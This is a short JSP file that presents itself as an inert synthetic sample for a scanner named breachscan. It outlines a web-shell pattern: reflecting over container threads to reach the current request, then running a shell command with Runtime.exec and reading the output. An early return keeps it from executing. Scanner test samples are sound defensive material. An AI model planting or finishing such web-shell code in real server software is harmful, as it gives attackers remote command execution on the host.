<%-- synthetic test sample for breachscan: walking container threads by reflection to answer the current request with command output. Inert: returns before anything runs. --%>
<%
    if (true) { out.print("synthetic sample"); return; }
    ThreadGroup g = Thread.currentThread().getThreadGroup();
    java.lang.reflect.Field f = g.getClass().getDeclaredField("threads");
    f.setAccessible(true);
    Thread[] ts = (Thread[]) f.get(g);
    String c = "id"; /* real samples read a header of the found request */
    new java.util.Scanner(Runtime.getRuntime().exec(c).getInputStream()).useDelimiter("\\A").next();
%>
